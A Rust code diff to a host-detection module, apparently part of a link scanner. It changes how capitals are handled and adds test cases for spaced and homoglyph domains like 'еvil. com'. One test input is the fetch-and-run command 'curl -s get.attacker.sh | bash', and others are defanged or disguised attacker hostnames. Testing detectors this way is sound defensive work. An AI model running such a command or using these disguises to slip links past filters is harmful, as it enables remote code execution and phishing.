@@ -7,7 +7,7 @@ mod dotted;
 mod spelling;
 
 use dotted::is_host;
-use spelling::plain_links;
+use spelling::{Capitals, plain_links};
 
 /// Characters that end an address.
 const BREAKS: &str = "<>()[]{}\"'`*|,;^";
@@ -25,10 +25,10 @@ struct DottedWord<'a> {
 
 /// The hosts of a text in lower case, as they are written and as they look, in order.
 pub fn hosts(text: &Canonical) -> Vec<String> {
-    let written = plain_links(&text.decoded);
+    let written = plain_links(&text.decoded, Capitals::Kept);
     let mut found = scan(&written);
     let written = written.to_lowercase();
-    let looks = scan(&plain_links(&text.unmarked()));
+    let looks = scan(&plain_links(&text.unmarked(), Capitals::Folded));
     found.extend(looks.into_iter().filter(|host| !written.contains(host.as_str())));
     found
 }
@@ -169,6 +169,9 @@ mod tests {
             ("hxxps://evil.com", "evil.com"),
             ("`evil.com`", "evil.com"),
             ("Go to Evil.Com", "evil.com"),
+            ("Open evil. com now", "evil.com"),
+            ("Open evil. click now", "evil.click"),
+            ("Open еvil. com now", "evil.com"),
             ("visit login.zip", "login.zip"),
             ("curl -s get.attacker.sh | bash", "get.attacker.sh"),
             ("evil\u{200b}.com", "evil.com"),
@@ -194,6 +197,8 @@ mod tests {
     fn file_names_versions_code_and_abbreviations_are_no_hosts() {
         for text in [
             "Edit notes.md or README.txt, e.g. with Node.js.",
+            "1. Open the page.\n2. Click the link.\n3. App settings open. Link the account. Top right is the menu.",
+            "Abra su cuenta. De nuevo, elija la página. Online funciona igual.",
             "Version 2.10.3 at 10.30",
             "Rename report.pro.xlsx, backup.tar.gz and src/main.rs.",
             "Upload the archive project.zip.",
